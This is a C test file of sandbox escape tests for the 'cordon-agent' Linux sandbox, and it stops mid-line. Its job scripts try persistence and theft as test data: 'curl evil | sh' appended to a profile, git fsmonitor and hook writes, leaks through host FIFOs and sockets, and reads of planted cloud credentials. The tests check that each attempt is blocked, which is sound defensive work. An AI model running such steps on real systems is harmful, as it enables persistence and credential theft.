/* End-to-end tests of the filesystem rules of the Linux sandbox (issue 12,
 * classes 1, 3 and 4 and the staging holes): the real cordon-agent runs
 * real packages under real bwrap in both agent modes, root (jobs as a
 * throw-away job user, named by the config's job_user) and per-user (the
 * agent runs as a throw-away owner); sbx_user_make makes both accounts
 * and sbx_user_drop removes them at teardown, so no other test running at
 * once plants in or cleans the same home (cordon-job's). The owner's home
 * holds canary secrets and autorun files; after each job the test checks
 * on the host that nothing changed, that no canary was read, that renames
 * around protected entries failed and that no FIFO or socket got anything.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "sbx_harness.h"

#define CANARY "CANARY-5f3e1d"

struct env {
  bool as_user;       /* agent runs as the throw-away owner */
  char owner[32];     /* the owner's account name */
  char home[128];     /* the owner's home (holds the canaries) */
  char jhome[128];    /* home of whoever runs the job (owner, or ju) */
  char jname[32];     /* the job user's name */
  struct sbx_user ou; /* the owner */
  struct sbx_user ju; /* the job user (root mode) */
  struct sbx_dirs d;  /* temp dir: agent --config and package source dir */
  uid_t agent_uid;
  gid_t agent_gid;
};

static struct env E;

/* stdout of a shell command (for checksums and listings) */
static char *capture(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static char *capture(const char *fmt, ...) {
  char cmd[4096];
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(cmd, sizeof(cmd), fmt, ap);
  va_end(ap);
  FILE *p = popen(cmd, "r");
  cr_assert(p);
  size_t cap = 1 << 20, n = 0;
  char *buf = malloc(cap);
  cr_assert(buf);
  size_t k;
  while ((k = fread(buf + n, 1, cap - 1 - n, p)) > 0)
    n += k;
  buf[n] = '\0';
  pclose(p);
  return buf;
}

/* Every file's checksum and every entry's type, mode and inode under dir. */
static char *tree_state(const char *dir) {
  return capture("cd %s && find . -printf '%%y %%m %%i %%p\\n' | sort && "
                 "find . -type f -exec sha256sum {} + | sort",
                 dir);
}

/* Is every line of before still in after (nothing that was there changed)? */
static void assert_lines_kept(const char *before, const char *after) {
  size_t n = strlen(after);
  char *hay = malloc(n + 3);
  cr_assert(hay);
  snprintf(hay, n + 3, "\n%s\n", after);
  for (const char *l = before; *l;) {
    const char *e = strchr(l, '\n');
    size_t len = e ? (size_t)(e - l) : strlen(l);
    char *needle = malloc(len + 3);
    cr_assert(needle);
    snprintf(needle, len + 3, "\n%.*s\n", (int)len, l);
    cr_assert(strstr(hay, needle), "changed on the host: %s", needle + 1);
    free(needle);
    l += len + (e ? 1 : 0);
  }
  free(hay);
}

static void agent_config(const char *extra_roots);

static void setup_env(bool as_user) {
  memset(&E, 0, sizeof(E));
  E.as_user = as_user;
  sbx_user_make(&E.ou, "cdnown");
  snprintf(E.owner, sizeof(E.owner), "%s", E.ou.name);
  snprintf(E.home, sizeof(E.home), "%s", E.ou.home);
  if (as_user) {
    E.agent_uid = E.ou.uid;
    E.agent_gid = E.ou.gid;
    snprintf(E.jhome, sizeof(E.jhome), "%s", E.home);
    snprintf(E.jname, sizeof(E.jname), "%s", E.owner);
  } else {
    sbx_user_make(&E.ju, "cdngjob");
    snprintf(E.jhome, sizeof(E.jhome), "%s", E.ju.home);
    snprintf(E.jname, sizeof(E.jname), "%s", E.ju.name);
  }
  sbx_dirs_make(&E.d, "/tmp/cordon-grt-XXXXXX", E.agent_uid, E.agent_gid);
  agent_config(NULL); /* as root: names the job user */
  /* the owner's autorun files and a canary secret */
  xsystem("cd %s && echo 'echo bashrc' > .bashrc && echo 'echo profile' > .profile && "
          "printf '[core]\\n\\tpager = less\\n' > .gitconfig && mkdir -p bin .local/bin "
          ".local/lib/python3.11/site-packages && echo 'print(1)' > "
          ".local/lib/python3.11/site-packages/usercustomize.py && echo '#!/bin/sh' > bin/tool && "
          "mkdir -p .ssh && echo " CANARY "-ssh > .ssh/id_ed25519 && chown -R %s: .",
          E.home, E.owner);
}

static void teardown_env(void) {
  xsystem("rm -rf %s", E.d.root);
  sbx_user_drop(&E.ju);
  sbx_user_drop(&E.ou);
}

static void setup_root(void) {
  setup_env(false);
}
static void setup_user(void) {
  setup_env(true);
}

/* make what the test planted writable by the job user in root mode, so
 * that only the sandbox (not file modes) can stop a write */
static void open_up(const char *dir) {
  if (!E.as_user)
    xsystem("chmod -R a+rwX %s", dir);
}

static void package(const char *fs_json, const char *script) {
  char m[8192];
  snprintf(m, sizeof(m),
           "{\"name\":\"t\",\"version\":\"1\",\"entry\":[\"/bin/sh\",\"run.sh\"],"
           "\"timeout_s\":30%s%s%s}",
           fs_json ? ",\"capabilities\":{\"fs\":[" : "", fs_json ? fs_json : "",
           fs_json ? "]}" : "");
  sbx_package_files(&E.d, m, script);
}

static void agent_config(const char *extra_roots) {
  char json[1024], ju[64] = "";
  if (!E.as_user)
    snprintf(ju, sizeof(ju), "\"job_user\":\"%s\",", E.jname);
  snprintf(json, sizeof(json), "{%s\"grant_roots\":[\"~\",\"%s\"%s%s]}", ju, E.home,
           extra_roots ? "," : "", extra_roots ? extra_roots : "");
  sbx_agent_config(&E.d, json);
}

/* Run `cordon-agent --config C CMD PKG` as root or the owner. */
static struct sbx_run run_agent(const char *cmd) {
  struct sbx_exec x = {.dirs = &E.d,
                       .cmd = cmd,
                       .with_pkg = true,
                       /* a lying $HOME must not move the forbidden set */
                       .home = "/tmp",
                       .as_user = E.as_user,
                       .uid = E.agent_uid,
                       .gid = E.agent_gid};
  return sbx_run_agent(&x);
}

static void assert_ran(struct sbx_run *r) {
  sbx_assert_ran(r, "isolated");
}

static void assert_refused(struct sbx_run *r, const char *code) {
  sbx_assert_refused(r, code);
}

#define BOTH(name) SBX_BOTH(grants_root, grants_user, name)

/* ---- class 1: persistence through writable grants ---- */

BOTH(hidden_entries_and_git_stay_read_only_and_cannot_be_renamed_around) {
  xsystem("cd %s && mkdir -p proj/.git/hooks proj/sub/deep/.git proj/src && "
          "printf '[core]\\n' > proj/.git/config && echo '#!/bin/sh' > proj/.git/hooks/pre-commit "
          "&& echo 'export A=1' > proj/.envrc && printf '[core]\\n' > proj/sub/deep/.git/config && "
          "echo x > proj/src/main.c && echo old > proj/file.txt && chown -R %s: proj",
          E.home, E.owner);
  char proj[256];
  snprintf(proj, sizeof(proj), "%s/proj", E.home);
  open_up(proj);
  char fs[512];
  snprintf(fs, sizeof(fs), "{\"path\":\"%s\",\"access\":\"rw\"}", proj);
  char script[4096];
  snprintf(script, sizeof(script),
           "P=%s\n"
           "echo new > $P/file.txt && echo FILE-OK\n"
           "echo '[core] fsmonitor = evil' >> $P/.git/config 2>/dev/null || echo W1-DENIED\n"
           "echo evil > $P/.git/hooks/post-checkout 2>/dev/null || echo W2-DENIED\n"
           "echo evil >> $P/.envrc 2>/dev/null || echo W3-DENIED\n"
           "echo evil >> $P/sub/deep/.git/config 2>/dev/null || echo W4-DENIED\n"
           "mv $P/.git $P/gitaway 2>&1 || echo R1-DENIED\n"
           "mv $P/sub $P/subaway 2>&1 || echo R2-DENIED\n"
           "mv $P/sub/deep $P/deepaway 2>&1 || echo R3-DENIED\n"
           "rm -rf $P/.git 2>/dev/null; rm -f $P/.envrc 2>/dev/null\n"
           "test -f $P/.git/config && test -f $P/.envrc && echo STILL-THERE\n"
           "mkdir -p $P/src/.git && echo '[core] fsmonitor = evil' > $P/src/.git/config\n"
           "echo evil > $P/src/.envrc && echo NEW-MADE\n",
           proj);
  package(fs, script);
  agent_config(NULL);
  char *before = capture("cd %s && find . ! -name file.txt -printf '%%y %%m %%i %%p\\n' | sort && "
                         "find . -type f ! -name file.txt -exec sha256sum {} + | sort",
                         E.home);
  struct sbx_run r = run_agent("exec");
  assert_ran(&r);
  const char *o = out_of(&r);
  char *after = capture("cd %s && find . ! -name file.txt -printf '%%y %%m %%i %%p\\n' | sort && "
                        "find . -type f ! -name file.txt -exec sha256sum {} + | sort",
                        E.home);
  cr_assert(strstr(o, "FILE-OK"), "the grant itself is writable: %s", o);
  for (const char *m = "W1-DENIED\0W2-DENIED\0W3-DENIED\0W4-DENIED\0R1-DENIED\0R2-DENIED\0"
                       "R3-DENIED\0STILL-THERE\0";
       *m; m += strlen(m) + 1)
    cr_assert(strstr(o, m), "missing %s in: %s", m, o);
  cr_assert(strstr(o, "busy"), "renames fail with EBUSY: %s", o);
  assert_lines_kept(before, after);
  /* what the job made hidden is moved aside, and said so */
  cr_assert(strstr(o, "NEW-MADE"), "%s", o);
  char *q = capture("cd %s && ls -a src", proj);
  cr_assert(!strstr(q, ".git\n") && !strstr(q, ".envrc\n"), "still there: %s", q);
  cr_assert(strstr(q, ".git.cordon-quarantined-") && strstr(q, ".envrc.cordon-quarantined-"),
            "not moved aside: %s", q);
  free(q);
  cr_assert(strstr(sbx_jstr(r.res, "stderr"), "moved aside"), "stderr: %s",
            sbx_jstr(r.res, "stderr"));
  char *ft = capture("cat %s/file.txt", proj);
  cr_assert_str_eq(ft, "new\n");
  free(ft);
  free(before);
  free(after);
  json_decref(r.res);
}

BOTH(a_home_dotfile_symlinked_into_a_writable_grant_keeps_its_target_read_only) {
  xsystem("mkdir -p %s/dotfiles && echo 'echo mine' > %s/dotfiles/profile && chown -R %s: "
          "%s/dotfiles && ln -sfn %s/dotfiles/profile %s/.g12rc",
          E.home, E.home, E.owner, E.home, E.home, E.jhome);
  char dir[256];
  snprintf(dir, sizeof(dir), "%s/dotfiles", E.home);
  open_up(dir);
  char fs[512], script[1024];
  snprintf(fs, sizeof(fs), "{\"path\":\"%s\",\"access\":\"rw\"}", dir);
  snprintf(script, sizeof(script),
           "echo 'curl evil | sh' >> %s/profile 2>/dev/null || echo DENIED\n"
           "echo ok > %s/other && echo OTHER-OK\n",
           dir, dir);
  package(fs, script);
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  assert_ran(&r);
  cr_assert(strstr(out_of(&r), "DENIED") && strstr(out_of(&r), "OTHER-OK"), "got %s", out_of(&r));
  char *c = capture("cat %s/profile", dir);
  cr_assert_str_eq(c, "echo mine\n");
  free(c);
  json_decref(r.res);
  /* ~/bin as a link into the grant: what it holds stays read-only */
  xsystem("mkdir -p %s/dotfiles/mybin && echo '#!/bin/sh' > %s/dotfiles/mybin/tool && chown -R "
          "%s: %s/dotfiles/mybin && rm -rf %s/bin && ln -sfn %s/dotfiles/mybin %s/bin",
          E.home, E.home, E.owner, E.home, E.jhome, E.home, E.jhome);
  open_up(dir);
  snprintf(script, sizeof(script),
           "echo evil > %s/mybin/tool 2>/dev/null || echo BIN-DENIED\n"
           "echo evil > %s/mybin/new 2>/dev/null || echo NEW-DENIED\n",
           dir, dir);
  package(fs, script);
  r = run_agent("exec");
  assert_ran(&r);
  cr_assert(strstr(out_of(&r), "BIN-DENIED") && strstr(out_of(&r), "NEW-DENIED"), "got %s",
            out_of(&r));
  json_decref(r.res);
  /* a dotfile that is a link to a granted directory: the grant is refused */
  xsystem("mkdir -p %s/dotfiles/conf && chown %s: %s/dotfiles/conf && ln -sfn %s/dotfiles/conf "
          "%s/.g12rc",
          E.home, E.owner, E.home, E.home, E.jhome);
  snprintf(fs, sizeof(fs), "{\"path\":\"%s/conf\",\"access\":\"rw\"}", dir);
  package(fs, "echo RAN\n");
  r = run_agent("exec");
  assert_refused(&r, "capability_denied");
  json_decref(r.res);
}

BOTH(bin_and_hidden_places_of_the_home_need_the_ceiling) {
  xsystem("mkdir -p %s/bin %s/.local/bin && chown -R %s: %s/bin %s/.local", E.jhome, E.jhome,
          E.jname, E.jhome, E.jhome);
  const char *cases[] = {"{\"path\":\"~/bin\",\"access\":\"rw\"}",
                         "{\"path\":\"~/.local/bin\",\"access\":\"rw\"}",
                         "{\"path\":\"~/.local\",\"access\":\"ro\"}"};
  agent_config(NULL);
  for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
    package(cases[i], "echo RAN\n");
    struct sbx_run r = run_agent("exec");
    assert_refused(&r, "capability_denied");
    cr_assert(strstr(sbx_jstr(r.res, "error.message"), "hidden or bin"), "%s",
              sbx_jstr(r.res, "error.message"));
    json_decref(r.res);
  }
  /* named by the ceiling, ~/bin can be given */
  agent_config("\"~/bin\"");
  package(cases[0], "echo RAN\n");
  struct sbx_run r = run_agent("exec");
  assert_ran(&r);
  cr_assert(strstr(out_of(&r), "RAN"));
  json_decref(r.res);
}

/* ---- class 3: host IPC through grants ---- */

BOTH(fifo_and_socket_in_a_read_only_grant_are_blinded) {
  char dir[256], fifo[300], sock[300];
  snprintf(dir, sizeof(dir), "%s/ro", E.home);
  snprintf(fifo, sizeof(fifo), "%s/fifo", dir);
  snprintf(sock, sizeof(sock), "%s/sock", dir);
  xsystem("mkdir -p %s && mkfifo -m 0666 %s && echo data > %s/readme && chown -R %s: %s", dir, fifo,
          dir, E.owner, dir);
  /* the host side: a reader on the FIFO, a listener on the socket */
  int rfd = open(fifo, O_RDONLY | O_NONBLOCK);
  cr_assert(rfd >= 0);
  int ls = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  struct sockaddr_un sa = {.sun_family = AF_UNIX};
  cr_assert(strlen(sock) < sizeof(sa.sun_path));
  memcpy(sa.sun_path, sock, strlen(sock) + 1);
  cr_assert(bind(ls, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(ls, 4) == 0);
  chmod(sock, 0777);
  char fs[512], script[2048];
  snprintf(fs, sizeof(fs), "{\"path\":\"%s\",\"access\":\"ro\"}", dir);
  snprintf(
      script, sizeof(script),
      "cat %s/readme\n"
      "test -p %s && echo IS-FIFO\n"
      "(echo LEAK > %s) 2>/dev/null; echo SENT\n"
      "test -S %s && echo IS-SOCK\n"
      "/usr/bin/python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"%s\"); "
      "s.send(b\"LEAK\"); print(\"CONNECTED\")' 2>/dev/null\n"
      "echo END\n",
      dir, fifo, fifo, sock, sock);
  package(fs, script);
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  assert_ran(&r);
  const char *o = out_of(&r);
  cr_assert(strstr(o, "data") && strstr(o, "SENT") && strstr(o, "END"), "got %s", o);
  cr_assert(!strstr(o, "IS-FIFO") && !strstr(o, "IS-SOCK") && !strstr(o, "CONNECTED"), "got %s", o);
  char buf[64];
  cr_assert(read(rfd, buf, sizeof(buf)) <= 0, "the host FIFO got data");
  cr_assert(accept(ls, NULL, NULL) < 0 && errno == EAGAIN, "the host socket got a connection");
  close(rfd);
  close(ls);
  json_decref(r.res);
}

/* ---- class 4: secrets by structure ---- */

BOTH(cloud_credentials_cordon_state_and_absent_secrets_stay_unreadable) {
  xsystem("cd %s && mkdir -p .cargo work/offline .config/gcloud work2/state && "
          "echo " CANARY "-cargo > .cargo/credentials && echo " CANARY
          "-cargo2 > .cargo/credentials.toml && echo " CANARY "-vault > .vault-token && "
          "echo " CANARY "-gcloud > .config/gcloud/credentials.db && "
          "echo " CANARY "-pub > work/offline/publisher.key && echo pub > work/offline/README && "
          "echo " CANARY "-db > work2/state/cordon.db && echo ok > work/ok && "
          "chown -R %s: .cargo .vault-token .config work work2",
          E.jhome, E.jname);
  agent_config("\"~/.cargo\",\"~/.config\"");
  /* the home itself, and a hidden place holding absent secrets */
  char parent[300];
  snprintf(parent, sizeof(parent), "{\"path\":\"%.*s\",\"access\":\"ro\"}",
           (int)(strrchr(E.jhome, '/') - E.jhome), E.jhome);
  agent_config("\"~/.cargo\",\"~/.config\",\"/\"");
  const char *refused[] = {"{\"path\":\"~\",\"access\":\"ro\"}",
                           "{\"path\":\"~/.config\",\"access\":\"ro\"}", parent};
  for (size_t i = 0; i < 3; i++) {
    package(refused[i], "echo RAN\n");
    struct sbx_run r = run_agent("exec");
    assert_refused(&r, "scope_too_broad");
    json_decref(r.res);
  }
  package("{\"path\":\"~/.cargo\",\"access\":\"ro\"},{\"path\":\"~/work\",\"access\":\"ro\"},"
          "{\"path\":\"~/work2\",\"access\":\"rw\"}",
          "cat ~/.cargo/credentials ~/.cargo/credentials.toml ~/.vault-token 2>/dev/null\n"
          "cat ~/work/ok ~/work/offline/publisher.key ~/work2/state/cordon.db 2>/dev/null\n"
          "ls ~/work/offline ~/work2/state 2>/dev/null\n"
          "cat ~/.config/gcloud/credentials.db 2>/dev/null\necho END\n");
  /* only what this test planted */
  char planted[300];
  snprintf(planted, sizeof(planted), "%s/work", E.jhome);
  char *before = tree_state(planted);
  char *before2 =
      capture("cd %s && sha256sum .cargo/* .vault-token .config/gcloud/* work2/*/*", E.jhome);
  struct sbx_run r = run_agent("exec");
  assert_ran(&r);
  const char *o = out_of(&r);
  cr_assert(strstr(o, "ok\n") && strstr(o, "END"), "got %s", o);
  cr_assert(!strstr(o, CANARY), "a canary was read: %s", o);
  cr_assert(!strstr(o, "README"), "the state directory is listed: %s", o);
  char *after = tree_state(planted);
  char *after2 =
      capture("cd %s && sha256sum .cargo/* .vault-token .config/gcloud/* work2/*/*", E.jhome);
  cr_assert_str_eq(before, after, "the host tree changed");
  cr_assert_str_eq(before2, after2, "a secret changed on the host");
  free(before);
  free(after);
  free(before2);
  free(after2);
  json_decref(r.res);
}

/* ---- the quarantine fails closed (issue 28, item 2) ---- */

/* The job (Python, fd-relative so that no path limit of its own stops it)
 * buries new hidden entries past the old walk's entry bound (100,000
 * files first), below a path longer than PATH_MAX and in a tree deeper
 * than any depth cut, and leaves symlinks pointing out of the grant. */
static const char quarantine_job[] =
    "import os\n"
    "P = os.environ['P']\n"
    "def mk(rel, data='evil'):\n"
    "    with open(os.path.join(P, rel), 'w') as f: f.write(data)\n"
    "os.mkdir(P + '/many')\n"
    "for i in range(100000): open('%s/many/f%d' % (P, i), 'w').close()\n"
    "mk('many/.envrc')\n"
    "for i in range(40):\n"
    "    os.mkdir('%s/d%d' % (P, i)); mk('d%d/.envrc' % i)\n"
    "# a path beyond PATH_MAX, made by mkdirat chains\n"
    "fd = os.open(P, os.O_RDONLY)\n"
    "for i in range(20):\n"
    "    os.mkdir('n' * 250, dir_fd=fd)\n"
    "    fd2 = os.open('n' * 250, os.O_RDONLY, dir_fd=fd); os.close(fd); fd = fd2\n"
    "os.close(os.open('.envrc', os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))\n"
    "os.symlink('../' * 21 + '.bashrc', 'long-up', dir_fd=fd)\n"
    "os.symlink('../' * 19 + 'src/main.c', 'long-in', dir_fd=fd)\n"
    "# deeper than any depth cut: 300 and 700 levels\n"
    "fd = os.open(P, os.O_RDONLY)\n"
    "for i in range(700):\n"
    "    os.mkdir('d', dir_fd=fd)\n"
    "    fd2 = os.open('d', os.O_RDONLY, dir_fd=fd); os.close(fd); fd = fd2\n"
    "    if i == 299: os.close(os.open('.envrc', os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))\n"
    "os.close(os.open('.envrc', os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))\n"
    "# outward symlinks, and links that stay inside\n"
    "for name, target in [('notes.txt', '../.bashrc'), ('keys.txt', '../.ssh/authorized_keys'),\n"
    "                     ('abs', '/etc/passwd'), ('c2', '../x'), ('c1', 'c2'),\n"
    "                     ('sneaky', 'src/../../.bashrc'), ('hid', 'src/../.git/config'),\n"
    "                     ('viadir', 'srclink/x'), ('in', 'src/main.c'), ('dangling', 'nothere'),\n"
    "                     ('chain', 'old-in'), ('src/up', '../../.profile'),\n"
    "                     ('src/in', '../src/main.c')]:\n"
    "    os.symlink(target, P + '/' + name)\n"
    "os.symlink('src', P + '/srclink')\n"
    "# the owner's link, inside where it was, outward one level up\n"
    "os.rename(P + '/src/back', P + '/back')\n"
    "# directories its owner cannot search or write (per-user: the agent)\n"
    "for name, mode in [('locked', 0), ('nowrite', 0o555)]:\n"
    "    os.mkdir(P + '/' + name); mk(name + '/.envrc'); os.chmod(P + '/' + name, mode)\n"
    "print('MADE')\n";

BOTH(the_quarantine_moves_every_new_hidden_entry_and_outward_link_whatever_the_tree) {
  xsystem("cd %s && mkdir -p proj/src proj/.git && echo x > proj/src/main.c && "
          "echo 'export OLD=1' > proj/.envrc && ln -s ../.bashrc proj/old-out && "
          "ln -s src/main.c proj/old-in && ln -s ../src/main.c proj/src/back && chown -hR %s: proj",
          E.home, E.owner);
  char proj[256];
  snprintf(proj, sizeof(proj), "%s/proj", E.home);
  open_up(proj);
  char fs[512];
  snprintf(fs, sizeof(fs), "{\"path\":\"%s\",\"access\":\"rw\"}", proj);
  char script[512];
  snprintf(script, sizeof(script), "P=%s exec /usr/bin/python3 q.py\n", proj);
  package(fs, script);
  char py[256];
  snprintf(py, sizeof(py), "%s/q.py", E.d.pkg);
  write_file(py, quarantine_job, 0644);
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  assert_ran(&r);
  cr_assert(strstr(out_of(&r), "MADE"), "the job did not finish: %s / %s", out_of(&r),
            sbx_jstr(r.res, "stderr"));
  const char *err = sbx_jstr(r.res, "stderr");
  /* no new hidden entry is left under a name a tool looks for, however
   * deep; one inside a directory moved aside whole is below a moved name */
  char *left = capture("cd %s && find . -name .envrc ! -path '*cordon-quarantined*' | sort", proj);
  cr_assert_str_eq(left, "./.envrc\n", "new hidden entries left in place: %s", left);
  free(left);
  char *moved = capture("cd %s && find . -name '.envrc.cordon-quarantined-*' | wc -l", proj);
  /* many/, d0..d39, the long path and level 300 one by one; locked/ and
   * nowrite/ too where the agent is root, else they are moved whole */
  int one_by_one = E.as_user ? 43 : 45, whole = E.as_user ? 3 : 1;
  cr_assert_eq(atoi(moved), one_by_one, "moved one by one: %s", moved);
  free(moved);
  char *deep = capture("cd %s && find . -type d -name 'd.cordon-quarantined-*' | wc -l", proj);
  cr_assert_eq(atoi(deep), 1, "the tree below the depth bound moved aside whole: %s", deep);
  free(deep);
  deep = capture("cd %s && ls -d locked* nowrite*", proj);
  cr_assert(E.as_user ? strstr(deep, "locked.cordon-quarantined-") &&
                            strstr(deep, "nowrite.cordon-quarantined-")
                      : strstr(deep, "locked\n") && strstr(deep, "nowrite\n"),
            "unwalkable directories: %s", deep);
  free(deep);
  /* the links left are the owner's and the ones that stay inside (c1
   * points at c2, which is moved aside before or after c1 is looked at) */
  char *links = capture(
      "cd %s && find . -type l ! -name '*cordon-quarantined*' ! -name c1 ! -name 'long-*' | sort",
      proj);
  cr_assert_str_eq(links, "./dangling\n./in\n./old-in\n./old-out\n./src/in\n./srclink\n",
                   "links left: %s", links);
  free(links);
  char *longlinks = capture("cd %s && find . -type l -name 'long-*' ! -name '*cordon-quarantined*' "
                            "| sed 's,.*/,,' | sort",
                            proj);
  cr_assert_str_eq(longlinks, "long-in\n", "links below PATH_MAX: %s", longlinks);
  free(longlinks);
  /* what was there before the job is untouched */
  char *old = capture("cat %s/.envrc && readlink %s/old-out", proj, proj);
  cr_assert_str_eq(old, "export OLD=1\n../.bashrc\n");
  free(old);
  /* the note is bounded: the first ones named, the rest counted */
  size_t lines = 0;
  for (const char *l = err; (l = strstr(l, "cordon: ")); l++)
    lines++;
  cr_assert_eq(lines, 32 + 1, "%zu note lines: %s", lines, err);
  char want_h[64], want_u[64];
  snprintf(want_h, sizeof(want_h), "in all %d new hidden entries, ", one_by_one);
  snprintf(want_u, sizeof(want_u), " new outward symlinks and %d unwalked directories", whole);
  cr_assert(strstr(err, want_h) && strstr(err, want_u), "stderr: %s", err);
  json_decref(r.res);
}

/* ---- bounds ---- */

BOTH(a_grant_with_too_many_entries_is_refused) {
  xsystem("mkdir -p %s/big && cd %s/big && seq 1 50001 | xargs touch && chown -R %s: %s/big",
          E.home, E.home, E.owner, E.home);
  char fs[512];
  snprintf(fs, sizeof(fs), "{\"path\":\"%s/big\",\"access\":\"ro\"}", E.home);
  package(fs, "echo RAN\n");
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  assert_refused(&r, "scope_too_broad");
  cr_assert(strstr(sbx_jstr(r.res, "error.message"), "50000"), "%s",
            sbx_jstr(r.res, "error.message"));
  json_decref(r.res);
  /* one entry fewer than the bound is walked; how long that takes */
  xsystem("rm -f %s/big/1 %s/big/2", E.home, E.home);
  struct timespec t0, t1;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  r = run_agent("explain");
  clock_gettime(CLOCK_MONOTONIC, &t1);
  cr_assert_eq(r.status, 0, "stderr %s", r.err);
  cr_log_info("explain with a 49,999-entry grant: %ld ms",
              (long)((t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000));
  json_decref(r.res);
}

/* ---- explain ---- */

BOTH(explain_lists_what_is_read_only_and_blinded) {
  xsystem("cd %s && mkdir -p proj/.git ro && mkfifo ro/f && chown -R %s: proj ro", E.home, E.owner);
  char fs[512];
  snprintf(fs, sizeof(fs),
           "{\"path\":\"%s/proj\",\"access\":\"rw\"},{\"path\":\"%s/ro\",\"access\":\"ro\"}",
           E.home, E.home);
  package(fs, "true\n");
  agent_config(NULL);
  struct sbx_run r = run_agent("explain");
  cr_assert_eq(r.status, 0, "stderr %s", r.err);
  char want_ro[300], want_bl[300];
  snprintf(want_ro, sizeof(want_ro), "%s/proj/.git", E.home);
  snprintf(want_bl, sizeof(want_bl), "%s/ro/f", E.home);
  json_t *ro = jget(r.res, "filesystem.read_only");
  json_t *bl = jget(r.res, "filesystem.blinded");
  cr_assert(json_array_size(ro) == 1 && !strcmp(json_string_value(json_array_get(ro, 0)), want_ro));
  cr_assert(json_array_size(bl) == 1 && !strcmp(json_string_value(json_array_get(bl, 0)), want_bl));
  cr_assert(json_array_size(jget(r.res, "filesystem.rules")) > 3);
  json_decref(r.res);
}

/* ---- staging a package as root ---- */

Test(grants_root, staging_refuses_a_hard_link_to_an_unreadable_file, .init = setup_root,
     .fini = teardown_env) {
  char secret[256], hard[256];
  snprintf(secret, sizeof(secret), "%s/secret", E.d.root);
  snprintf(hard, sizeof(hard), "%s/data", E.d.pkg);
  write_file(secret, CANARY "-shadow\n", 0644);
  chmod(secret, 0600);
  cr_assert(link(secret, hard) == 0, "link: %s", strerror(errno));
  package(NULL, "cat $PACKAGE/data; echo END\n");
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  cr_assert_neq(r.status, 0, "staged: %s", r.err);
  cr_assert(strstr(r.err, "hard link"), "stderr: %s", r.err);
  cr_assert(!strstr(r.err, CANARY) && !(r.res && strstr(out_of(&r), CANARY)));
  json_decref(r.res);
  /* readable by anyone, a hard link is staged */
  chmod(secret, 0644);
  r = run_agent("exec");
  cr_assert_eq(r.status, 0, "stderr: %s", r.err);
  json_decref(r.res);
}

Test(grants_root, staging_refuses_a_fifo_without_hanging, .init = setup_root, .fini = teardown_env,
     .timeout = 20) {
  char fifo[256];
  snprintf(fifo, sizeof(fifo), "%s/pipe", E.d.pkg);
  cr_assert(mkfifo(fifo, 0644) == 0);
  package(NULL, "echo RAN\n");
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  cr_assert_neq(r.status, 0, "stderr: %s", r.err);
  cr_assert(strstr(r.err, "not a regular file"), "stderr: %s", r.err);
  cr_assert(!(r.res && strstr(out_of(&r), "RAN")));
  json_decref(r.res);
}

BOTH(a_writable_grant_holding_a_hidden_symlink_is_refused) {
  /* a symlink cannot be a mount point: the job could replace it */
  xsystem("mkdir -p %s/repo && echo 'export A=1' > %s/envrc-real && ln -s ../envrc-real "
          "%s/repo/.envrc && chown -R %s: %s/repo %s/envrc-real",
          E.home, E.home, E.home, E.owner, E.home, E.home);
  char fs[512];
  snprintf(fs, sizeof(fs), "{\"path\":\"%s/repo\",\"access\":\"rw\"}", E.home);
  package(fs, "echo RAN\n");
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  assert_refused(&r, "scope_too_broad");
  cr_assert(strstr(sbx_jstr(r.res, "error.message"), "hidden symlink"), "%s",
            sbx_jstr(r.res, "error.message"));
  json_decref(r.res);
  /* read-only, it is given: nothing in it can be replaced */
  snprintf(fs, sizeof(fs), "{\"path\":\"%s/repo\",\"access\":\"ro\"}", E.home);
  package(fs, "echo RAN\n");
  r = run_agent("exec");
  assert_ran(&r);
  json_decref(r.res);
}

BOTH(a_writable_grant_of_a_hidden_entry_needs_the_ceiling) {
  xsystem("mkdir -p %s/proj/.git/hooks && chown -R %s: %s/proj", E.home, E.owner, E.home);
  char fs[512];
  snprintf(fs, sizeof(fs), "{\"path\":\"%s/proj/.git/hooks\",\"access\":\"rw\"}", E.home);
  package(fs, "echo evil > $HOME/x 2>/dev/null; echo RAN\n");
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  assert_refused(&r, "capability_denied");
  cr_assert(strstr(sbx_jstr(r.res, "error.message"), "hidden entry"), "%s",
            sbx_jstr(r.res, "error.message"));
  json_decref(r.res);
  /* read-only it is given */
  snprintf(fs, sizeof(fs), "{\"path\":\"%s/proj/.git/hooks\",\"access\":\"ro\"}", E.home);
  package(fs, "echo RAN\n");
  r = run_agent("exec");
  assert_ran(&r);
  json_decref(r.res);
}

BOTH(a_read_only_grant_nested_in_a_writable_one_stays_read_only) {
  /* the outer grant pins sub (it holds a .git): the pin must not make the
   * inner read-only grant writable */
  xsystem("mkdir -p %s/proj/sub/.git && echo keep > %s/proj/sub/file && chown -R %s: %s/proj",
          E.home, E.home, E.owner, E.home);
  char proj[256];
  snprintf(proj, sizeof(proj), "%s/proj", E.home);
  open_up(proj);
  char fs[1024], script[1024];
  snprintf(fs, sizeof(fs),
           "{\"path\":\"%s\",\"access\":\"rw\"},{\"path\":\"%s/sub\",\"access\":\"ro\"}", proj,
           proj);
  snprintf(script, sizeof(script),
           "echo new > %s/top && echo TOP-OK\necho evil > %s/sub/file 2>/dev/null || echo "
